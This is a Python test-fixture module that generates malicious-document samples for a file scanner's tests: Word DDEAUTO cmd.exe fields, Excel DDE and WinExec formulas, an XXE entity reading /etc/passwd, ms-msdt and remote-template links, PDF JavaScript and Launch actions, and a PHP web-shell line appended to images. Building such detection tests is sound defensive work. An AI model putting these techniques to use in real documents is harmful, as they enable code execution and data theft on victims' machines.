"""Documents that act by themselves, each made of a sound one; the campaign and the suite take them from here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from docx import Document
from openpyxl import Workbook

from tests.pdfs import pdf

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00" + bytes(40)
JPG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(40) + b"\xff\xd9"


def word(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return _saved(document)


def sheet(*rows: list[object]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    return _saved(workbook)


def changed(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """The zip with other parts."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes = b"x") -> bytes:
    return changed(data, lambda parts: parts.update({name: content}))


def related(data: bytes, kind: str, target: str, outside: bool = True, of: str = "word/document.xml") -> bytes:
    """With a relation of one of its parts."""
    folder, name = of.rsplit("/", 1)
    rels = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode()

    def change(parts: dict[str, bytes]) -> None:
        begin = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[rels] = parts.get(rels, begin).replace(b"</Relationships>", one)

    return changed(data, change)


def within(xml: str, data: bytes | None = None, part: str = "word/document.xml") -> bytes:
    """With a piece of XML at the begin of the document's body."""

    def change(parts: dict[str, bytes]) -> None:
        parts[part] = parts[part].replace(b"<w:body>", b"<w:body>" + xml.encode())

    return changed(data or word("text"), change)


def field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def in_cells(xml: str) -> bytes:
    """A workbook with a formula as it stands in the XML."""

    def change(parts: dict[str, bytes]) -> None:
        name = "xl/worksheets/sheet1.xml"
        parts[name] = parts[name].replace(b"</c>", b"</c>" + xml.encode(), 1)

    return changed(sheet(["a", "b"]), change)


def _saved(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def acting() -> Iterator[tuple[str, str, bytes]]:
    """A name, its ending, and the file: each acts by itself, holds another file, or leads out, once it is opened."""
    yield from _words()
    yield from _sheets()
    yield from _pdfs()
    yield from _pictures()


def _words() -> Iterator[tuple[str, str, bytes]]:
    text = word("text")
    for name, part in (
        ("macros", "word/vbaProject.bin"), ("macros elsewhere", "other/VBAPROJECT.BIN"),
        ("macros signed", "word/vbaData.xml"), ("activex", "word/activeX/activeX1.xml"),
        ("activex binary", "word/activeX/activeX1.bin"), ("ole", "word/embeddings/oleObject1.bin"),
        ("ole without an ending", "word/embeddings/object"), ("embedded document", "word/embeddings/inner.docx"),
        ("embedded macros", "word/embeddings/inner.xlsm"), ("page", "word/afchunk.html"), ("mht", "word/afchunk.mht"),
        ("rtf", "word/afchunk.rtf"), ("program", "word/media/setup.exe"), ("script", "word/run.js"),
        ("link", "word/media/run.lnk"), ("add-in", "word/webextensions/webextension1.xml"),
        ("ribbon", "customUI/customUI.xml"),
    ):  # fmt: skip
        yield f"word {name}", "docx", with_part(text, part)
    yield "word program by content", "docx", with_part(text, "word/media/image1.png", b"MZ\x90\x00" + bytes(80))
    yield (
        "word old document by content",
        "docx",
        with_part(text, "word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    )
    yield (
        "word entity",
        "docx",
        with_part(text, "word/a.xml", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    )
    drawn = b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
    yield "word drawing with a script", "docx", with_part(text, "word/media/image1.svg", drawn)
    drawn = b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'
    yield "word drawing with a handler", "docx", with_part(text, "word/media/image1.svg", drawn)
    for name, kind, target in (
        ("template", "attachedTemplate", "https://example.org/a.dotm"),
        ("template on a share", "attachedTemplate", r"\\example.org\a.dotm"),
        ("picture", "image", "https://example.org/a.png"),
        ("picture on a share", "image", r"file://\\example.org\a.png"),
        ("frame", "frame", "https://example.org"), ("document", "subDocument", "a.docx"),
        ("ole", "oleObject", "mhtml:https://example.org/a.html!x-usc:https://example.org/a.html"),
        ("script link", "hyperlink", "javascript:alert(1)"),
        ("protocol link", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("data source", "mailMergeSource", "a.mdb"),
    ):  # fmt: skip
        yield f"word outside {name}", "docx", related(text, f"{REL}/{kind}", target)
    settings = related(text, f"{REL}/attachedTemplate", "https://example.org/a.dotm", of="word/settings.xml")
    yield "word template of the settings", "docx", settings
    yield "word macros by relation", "docx", related(text, f"{MS}/vbaProject", "other.bin", outside=False)
    yield "word page by relation", "docx", related(text, f"{REL}/aFChunk", "other.bin", outside=False)

    def spelled(parts: dict[str, bytes]) -> None:
        name = "word/_rels/settings.xml.rels"
        parts[name] = parts[name].replace(b"External", b"Ext&#101;rnal")

    yield "word template, spelled otherwise", "docx", changed(settings, spelled)
    for name, pieces in (
        ("dde", ("DDE cmd.exe /c",)), ("ddeauto", ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',)),
        ("dde in pieces", ("DD", "EAU", "TO cmd.exe")), ("dde in quotation marks", ('"DDEAUTO" cmd',)),
        ("dde in letters' numbers", ("&#68;DEAUTO cmd",)), ("small dde", ("ddeauto cmd",)),
        ("included text", ("INCLUDETEXT https://example.org/a.docx",)), ("link", ("LINK Excel.Sheet.8 a.xls",)),
        ("database", ('DATABASE \\d "a.mdb"',)), ("hidden", ("QUOTE 68 68 69 65 85 84 79 32 99",)),
    ):  # fmt: skip
        yield f"word field {name}", "docx", within(field(*pieces))
    yield "word simple field", "docx", within('<w:p><w:fldSimple w:instr="DDEAUTO cmd.exe"/></w:p>')
    header = f"<w:hdr {W}>{field('DDEAUTO cmd.exe')}</w:hdr>".encode()
    yield "word field in a header", "docx", with_part(text, "word/header1.xml", header)
    wide = f'<?xml version="1.0" encoding="utf-16"?><w:hdr {W}>{field("DDEAUTO cmd.exe")}</w:hdr>'.encode("utf-16")
    yield "word field in UTF-16", "docx", with_part(text, "word/header1.xml", wide)
    yield (
        "word object",
        "docx",
        within('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" Type="Embed"/></w:object></w:r></w:p>'),
    )
    yield "word twice", "docx", _twice(text)
    yield "word and a page", "docx", b"<html><script>1</script>" + text
    yield "word and a PDF", "docx", _commented(text, b"%PDF-1.7\n")
    yield (
        "word within a chart's figures",
        "docx",
        with_part(text, "word/embeddings/Microsoft_Excel_Sheet.xlsx", with_part(sheet(["a"]), "xl/vbaProject.bin")),
    )


def _sheets() -> Iterator[tuple[str, str, bytes]]:
    table = sheet(["a", "b"])
    for name, part in (
        ("macros", "xl/vbaProject.bin"), ("macro sheet", "xl/macrosheets/sheet1.xml"),
        ("dialogue", "xl/dialogsheets/sheet1.xml"), ("activex", "xl/activeX/activeX1.xml"),
        ("control", "xl/ctrlProps/ctrlProp1.xml"), ("ole", "xl/embeddings/oleObject1.bin"),
        ("connection", "xl/connections.xml"), ("query", "xl/queryTables/queryTable1.xml"),
    ):  # fmt: skip
        yield f"sheet {name}", "xlsx", with_part(table, part, b"<a/>" if part.endswith("xml") else b"x")
    for name, formula in (
        ("dde", "cmd|'/c calc'!A0"), ("dde in letters' numbers", "cmd&#124;'/c calc'!A0"),
        ("dde behind", "1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), ("webservice", 'WEBSERVICE("https://example.org")'),
        ("call", 'CALL("Kernel32","WinExec","JCJ","calc",0)'), ("register", 'REGISTER("a","b")'),
        ("exec", 'EXEC("calc")'), ("server", 'RTD("a",,"b")'), ("cdata", "<![CDATA[cmd|'/c calc'!A0]]>"),
    ):  # fmt: skip
        yield f"sheet formula {name}", "xlsx", in_cells(f'<c r="C1"><f>{formula}</f></c>')
    link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "sheet dde link", "xlsx", with_part(table, "xl/externalLinks/externalLink1.xml", link)
    link = b'<externalLink xmlns="x"><oleLink progId="Word.Document"/></externalLink>'
    yield "sheet ole link", "xlsx", with_part(table, "xl/externalLinks/externalLink1.xml", link)
    yield (
        "sheet outside picture",
        "xlsx",
        related(table, f"{REL}/image", "https://example.org/a.png", of="xl/worksheets/sheet1.xml"),
    )
    types = b'<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    yield "sheet macros by type", "xlsx", changed(table, lambda parts: parts.update(
        {"[Content_Types].xml": parts["[Content_Types].xml"].replace(b"</Types>", types)}))  # fmt: skip


def _pdfs() -> Iterator[tuple[str, str, bytes]]:
    note = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 1 1]%s>>]"
    for name, catalog, page in (
        ("script", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b""),
        ("script, spelled otherwise", b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>", b""),
        ("script by name", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>", b""),
        ("script of a page", b"", b"/AA<</O<</S/JavaScript/JS(1)>>>>"),
        ("opened address", b"/OpenAction<</S/URI/URI(https://example.org)>>", b""),
        ("address of a page", b"", b"/AA<</O<</S/URI/URI(https://example.org)>>>>"),
        ("launch", b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""),
        ("launch of a link", b"", note % (b"Link", b"/A<</S/Launch/Win<</F(cmd.exe)>>>>")),
        ("form sent", b"", note % (b"Widget", b"/A<</S/SubmitForm/F(https://example.org)>>")),
        ("loaded", b"", note % (b"Link", b"/A<</S/ImportData/F(a.fdf)>>")),
        ("other file", b"", note % (b"Link", b"/A<</S/GoToR/F(//example.org/a.pdf)/D[0/Fit]>>")),
        ("inner file", b"", note % (b"Link", b"/A<</S/GoToE/D[0/Fit]>>")),
        ("embedded", b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 1 0 R>>>>]>>>>", b""),
        ("attached", b"", note % (b"FileAttachment", b"/FS<</Type/Filespec/F(a)>>")),
        ("rich media", b"", note % (b"RichMedia", b"")), ("film", b"", note % (b"Movie", b"")),
        ("screen", b"", note % (b"Screen", b"")), ("scene", b"", note % (b"3D", b"")),
        ("xfa", b"/AcroForm<</XFA[(a)1 0 R]/Fields[]>>", b""),
        ("chain", b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>", b""),
    ):  # fmt: skip
        yield f"pdf {name}", "pdf", pdf(b"", catalog, page=page)
    yield "pdf script in no table", "pdf", pdf(b"\n9 0 obj<</S /JavaScript/JS(1)>>endobj")
    yield "pdf packed script", "pdf", packed_script()
    yield "pdf and a page", "pdf", pdf(b"<script>alert(1)</script>")
    yield "pdf and a zip", "pdf", pdf() + word("x")
    yield "pdf with more behind it", "pdf", pdf() + b"x" * 5000
    yield "pdf locked", "pdf", locked()


def packed_script() -> bytes:
    """A PDF whose script stands in a packed stream of objects, as newer ones have it."""
    inner = (b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>", b"<</Type/Pages/Kids[]/Count 0>>")
    heads = b"1 0 2 %d " % (len(inner[0]) + 1)
    packed = zlib.compress(heads + b" ".join(inner))
    out = b"%PDF-1.7\n"
    at = len(out)
    out += b"4 0 obj<</Type/ObjStm/N 2/First %d/Filter/FlateDecode/Length %d>>stream\n" % (len(heads), len(packed))
    out += packed + b"\nendstream endobj\n"
    start = len(out)
    rows = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (0, 0, 0), (1, at, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    out += b"5 0 obj<</Type/XRef/Size 6/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def locked(data: bytes | None = None) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(PdfReader(io.BytesIO(data or pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    for name, more in (
        ("page", b"<html><script>alert(1)</script>"), ("script", b"<SCRIPT src=//example.org>"),
        ("php", b"<?php system($_GET[0]);"), ("drawing", b"<svg onload=alert(1)>"), ("zip", word("x")), ("pdf", pdf()),
    ):  # fmt: skip
        yield f"png and {name}", "png", PNG + more
        yield f"jpg and {name}", "jpg", JPG + more
    huge = PNG[:16] + b"\x00\x01\x00\x00\x00\x01\x00\x00" + PNG[24:]
    yield "png of four thousand million points", "png", huge


def _twice(data: bytes) -> bytes:
    import warnings

    out = io.BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", b"<w:document/>")
    return out.getvalue()


def _commented(data: bytes, comment: bytes) -> bytes:
    """With bytes in the name of its first part, where a reader of PDF looks."""
    parts = {"a" + comment.decode(): b"x"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts |= {name: archive.read(name) for name in archive.namelist()}
    return zipped(parts)


def sound() -> Iterator[tuple[str, str, bytes]]:
    """What looks a little like those and is what honest authors hand in."""
    text, table = word("text | DDE is a word, and so is ddeauto!"), sheet(["a|b!", "=SUM(A1:A2)", "call (me)"])
    yield "word", "docx", text
    yield "word link", "docx", related(text, f"{REL}/hyperlink", "https://example.org/a|b!c")
    yield "word fields", "docx", within(field("PAGE \\* MERGEFORMAT") + field('HYPERLINK "https://example.org"'))
    yield "word chart", "docx", with_part(text, "word/embeddings/Microsoft_Excel_Sheet.xlsx", table)
    drawn = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
    yield "word drawing", "docx", with_part(text, "word/media/image1.svg", drawn)
    yield "sheet", "xlsx", table
    formula = '<c r="C1"><f>IF(A1="x | y",Sheet!A1,"call (me)")</f></c>'
    yield "sheet formula", "xlsx", in_cells(formula)
    yield "sheet of another", "xlsx", related(table, f"{REL}/externalLinkPath", "Other.xlsx", of="xl/workbook.xml")
    yield "pdf", "pdf", pdf()
    yield "pdf that opens at a place", "pdf", pdf(b"", b"/OpenAction[3 0 R /Fit]")
    yield (
        "pdf link",
        "pdf",
        pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(https://e.org)>>>>]"),
    )
    yield "pdf locked against copying alone", "pdf", against_copying()
    yield "pdf with noughts behind it", "pdf", pdf() + bytes(5000)
    yield "png", "png", PNG
    yield "jpg", "jpg", JPG


def against_copying() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(PdfReader(io.BytesIO(pdf())))
    writer.encrypt("", "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
